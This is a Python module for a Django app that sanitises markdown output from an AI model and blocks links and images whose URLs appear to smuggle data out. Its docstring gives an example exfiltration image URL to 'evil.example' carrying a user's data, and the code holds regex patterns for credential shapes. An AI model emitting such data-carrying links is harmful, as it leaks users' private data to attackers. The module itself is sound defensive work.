"""Model output is only ever rendered as sanitised markdown: markdown-it (CommonMark, raw HTML
off) to HTML, then nh3 keeps a small set of tags and safe link schemes.

It is also where a hijacked model would leak what it knows: an image the browser loads by
itself (`![](https://evil.example/p.png?d=<the user's data>)`) sends the data with no click,
and a link carrying the data waits for one. So:
- images show only from WARDEN_OUTPUT_IMAGE_HOSTS (none by default): any other becomes a line
  of text saying which host it was not loaded from (the Content-Security-Policy's
  `img-src 'self' data:` stops a mistake here too: portal/security.py);
- a link (or an allowed image) whose URL carries data (`exfiltration`: personal data, a secret,
  a placeholder of redacted data, a long or encoded value) is not rendered live: its text stays,
  with a note that the link was removed;
- other links stay links (rel="noopener noreferrer nofollow"): following one is the reader's
  choice, and sends nothing the page did not show.
"""

from __future__ import annotations

import base64
import binascii
import math
import re
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from urllib.parse import parse_qsl, unquote, urlsplit

import nh3
from django.utils.safestring import SafeString, mark_safe
from markdown_it import MarkdownIt
from markdown_it.token import Token

from audit import pii
from governance.guardrails.highlight import CLASSES, code_block_html

_TAGS = {
    *("p", "br", "strong", "em", "code", "pre", "blockquote", "hr"),
    *("ul", "ol", "li", "a", "h1", "h2", "h3", "h4", "h5", "h6"),
    *("table", "thead", "tbody", "tr", "th", "td", "del", "img"),
    *("div", "span"),  # only code blocks' frames and token spans: their classes are CLASSES
}
_ATTRIBUTES = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title"},
    "code": {"class"},
    "th": {"align"},
    "td": {"align"},
}
_markdown = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable("table")


def _code(self: object, tokens: Sequence[Token], idx: int, options: object, env: object) -> str:
    token = tokens[idx]  # a fence (with its info string) or an indented block (none)
    return code_block_html(token.content, token.info if token.type == "fence" else "")


_markdown.add_render_rule("fence", _code)
_markdown.add_render_rule("code_block", _code)


@dataclass(frozen=True)
class Finding:
    """A URL in model output that carries data out: where, and why it was flagged."""

    url: str
    reason: str  # personal data, a secret, a placeholder, a long value, an encoded value

    def as_dict(self) -> dict[str, str]:
        """Without the URL itself: it is the data (for the audit trail, the host is enough)."""
        return {"guardrail": "exfiltration", "host": self.host, "reason": self.reason}

    @property
    def host(self) -> str:
        try:
            return urlsplit(self.url).hostname or ""
        except ValueError:
            return ""


def render_markdown(text: str, *, cite: Callable[[int], str | None] | None = None) -> SafeString:
    """HTML safe to put in a page, whatever the model wrote; its code blocks highlighted
    (governance.guardrails.highlight). With `cite`, each citation marker `[n]` in the text
    (not in code, not in a link) links to `cite(n)`, if that is not None."""
    tokens = _markdown.parse(text or "")
    for block in tokens:
        if block.type == "inline" and block.children:
            block.children = _guarded(block.children)
            if cite is not None:
                block.children = _linked(block.children, cite)
    html = _markdown.renderer.render(tokens, _markdown.options, {})
    clean = nh3.clean(
        html,
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        allowed_classes=CLASSES,
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
    )
    return mark_safe(clean)  # noqa: S308 - nh3 has just sanitised it


def scan(text: str) -> list[Finding]:
    """The links and images in markdown `text` whose URLs carry data (what render_markdown
    renders inert): for what returns the text as it is, such as the API."""
    found = []
    for block in _markdown.parse(text or ""):
        for token in block.children or []:
            url = token.attrs.get("href") or token.attrs.get("src")
            if token.type in ("link_open", "image") and url:
                reason = exfiltration(str(url))
                if reason:
                    found.append(Finding(str(url), reason))
    return found


def exfiltration(url: str) -> str | None:
    """Why `url` looks like it carries data out, or None. Its query and fragment values and
    its path's segments are read URL-decoded: personal data, a secret, a placeholder of
    redacted data ("[EMAIL_1]": restored, it would be the value), or an encoded blob."""
    try:
        parts = urlsplit(url)
    except ValueError:
        return "a URL that does not parse"
    pairs = parse_qsl(parts.query, keep_blank_values=True) + parse_qsl(
        parts.fragment, keep_blank_values=True
    )
    values = [(name, value, True) for name, value in pairs]
    if parts.query and not pairs:
        values.append(("", unquote(parts.query), True))
    # Path segments too (".../collect/<data>"), without the rules a path's own ids would trip;
    # a mailto: link's path is the address it shows (its subject and body are its query).
    if parts.scheme.lower() != "mailto":
        values += [("", unquote(segment), False) for segment in parts.path.split("/") if segment]
    for name, value, in_query in values:
        if _PLACEHOLDER.search(value):
            return "a placeholder of redacted personal data"
        if pii.find(value) or pii.PSEUDONYM.search(value):  # a hash stands for its value
            return "personal data"
        if name and _secret_name(name) and value:
            return f"a secret ({name})"
        if _SECRET_TEXT.search(value):
            return "a secret"
        if in_query and len(value) > 64:
            return f"a long value ({len(value)} characters)"
        if _encoded(value, hex_too=in_query):
            return "an encoded value"
    return None


_PLACEHOLDER = re.compile(r"\[[A-Z]+_\d+\]")
# Shapes of well-known credentials: API keys, tokens, private keys.
_SECRET_TEXT = re.compile(
    r"\b(?:sk-[A-Za-z0-9_-]{16,}|gh[pousr]_[A-Za-z0-9]{20,}|xox[abprs]-[A-Za-z0-9-]{10,}"
    r"|AKIA[0-9A-Z]{16}|eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}\.)"
    r"|-----BEGIN [A-Z ]*PRIVATE KEY-----"
)


def _secret_name(name: str) -> bool:
    from audit.redaction import is_secret_key

    return is_secret_key(name)


def _encoded(value: str, *, hex_too: bool) -> bool:
    """Base64, base64url (or, `hex_too`, hex) of some length whose characters look random (a
    slug, a word or a date does not), or text that decodes from base64 to readable text. Hex
    in a path is a commit or a digest more often than data."""
    if len(value) < 24 or not re.fullmatch(r"[A-Za-z0-9+/_=-]+", value):
        return False
    if re.fullmatch(r"[0-9a-fA-F]+", value):
        return hex_too and len(value) >= 32
    if "-" in value and re.fullmatch(r"[a-z0-9-]+", value):
        return False  # a slug
    counts = Counter(value)
    entropy = -sum(n / len(value) * math.log2(n / len(value)) for n in counts.values())
    if entropy >= 4.0 and re.search(r"\d", value) and re.search(r"[A-Za-z]", value):
        return True
    try:
        decoded = base64.b64decode(value + "=" * (-len(value) % 4), altchars=b"-_", validate=True)
    except (binascii.Error, ValueError):
        return False
    return decoded.isascii() and decoded.decode("ascii").isprintable()


def _allowed_image(src: str) -> bool:
    from django.conf import settings

    parts = urlsplit(src)
    hosts = getattr(settings, "WARDEN_OUTPUT_IMAGE_HOSTS", [])
    return parts.scheme == "https" and (parts.hostname or "") in hosts


def _text(content: str) -> Token:
    return Token("text", "", 0, content=content)


def _note(content: str) -> list[Token]:
    return [Token("em_open", "em", 1), _text(content), Token("em_close", "em", -1)]


def _guarded(children: list[Token]) -> list[Token]:
    """Images from hosts not allowed, and links carrying data, made inert text."""
    out: list[Token] = []
    dropped: list[str] = []  # per open link: the note to add at its close ("" when kept)
    for token in children:
        if token.type == "image":
            src = str(token.attrs.get("src") or "")
            alt = "".join(c.content for c in token.children or [] if c.type != "softbreak")
            reason = exfiltration(src)
            if _allowed_image(src) and reason is None:
                out.append(token)
            elif reason:
                out += _note(
                    f"[image removed: {alt or 'no description'}; its URL carried {reason}]"
                )
            else:
                host = urlsplit(src).hostname or "an address with no host"
                out += _note(f"[image not loaded: {alt or 'no description'}, from {host}]")
        elif token.type == "link_open":
            reason = exfiltration(str(token.attrs.get("href") or ""))
            dropped.append(f" [link removed: it carried {reason}]" if reason else "")
            if not reason:
                out.append(token)
        elif token.type == "link_close":
            note = dropped.pop() if dropped else ""
            if note:
                out += _note(note)
            else:
                out.append(token)
        else:
            out.append(token)
    return out


_MARKER = re.compile(r"\[(\d{1,3})\]")


def _linked(children: list[Token], cite: Callable[[int], str | None]) -> list[Token]:
    out: list[Token] = []
    in_link = 0
    for token in children:
        in_link += {"link_open": 1, "link_close": -1}.get(token.type, 0)
        if token.type != "text" or in_link:
            out.append(token)
            continue
        position = 0
        for match in _MARKER.finditer(token.content):
            href = cite(int(match.group(1)))
            if href is None:
                continue
            out.append(Token("text", "", 0, content=token.content[position : match.start()]))
            out.append(Token("link_open", "a", 1, attrs={"href": href}))
            out.append(Token("text", "", 0, content=match.group(0)))
            out.append(Token("link_close", "a", -1))
            position = match.end()
        out.append(Token("text", "", 0, content=token.content[position:]))
    return out
